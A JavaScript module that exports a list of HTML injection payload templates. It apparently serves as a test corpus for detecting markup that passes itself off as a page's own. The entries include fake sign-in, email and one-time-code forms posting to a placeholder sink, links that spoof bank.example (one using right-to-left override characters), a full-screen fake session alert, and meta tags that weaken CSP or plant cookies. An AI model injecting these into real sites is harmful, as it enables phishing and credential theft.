/** Forms and words that pass for the page's own. */
export default [
  "<form action={{sink}}><input type=password name=password><button>Sign in</button></form>",
  "<form action={{sink}} autocomplete=on><input name=email autocomplete=username><input type=submit></form>",
  "<input type=password autofocus onfocus={{run}}>",
  "<a href={{sink}} target=_self>https://bank.example/</a>",
  "<a href={{sink}} target=_self title=bank.example>\u202ebank.example\u202c</a>",
  "<a href={{sink}} target=_self><img src={{sink}} alt='Sign in'></a>",
  "<div role=alert aria-live=assertive id=alert style='position:fixed;top:0;left:0;width:100%;background:red;z-index:9999999;height:100%'>Your session has ended</div>",
  "<div role=dialog aria-modal=true id=dialog><a href={{sink}} target=_self>Continue</a></div>",
  "<h1 id=main role=banner>Sign in</h1><form action={{sink}}><input name=otp><button>Go</button></form>",
  "<textarea name=note form=f>x</textarea><form id=f action={{sink}}><button>x</button></form>",
  "<a href='{{sink}}#https://bank.example/' target=_self>bank.example</a>",
  "<input type=file onchange={{run}} onclick={{run}}>",
  "<meta name=referrer content=unsafe-url><img src={{sink}}>",
  '<meta http-equiv=Content-Security-Policy content="default-src *"><img src={{sink}}>',
  "<meta http-equiv=set-cookie content='planted=1'><a href={{sink}}>x</a>",
];
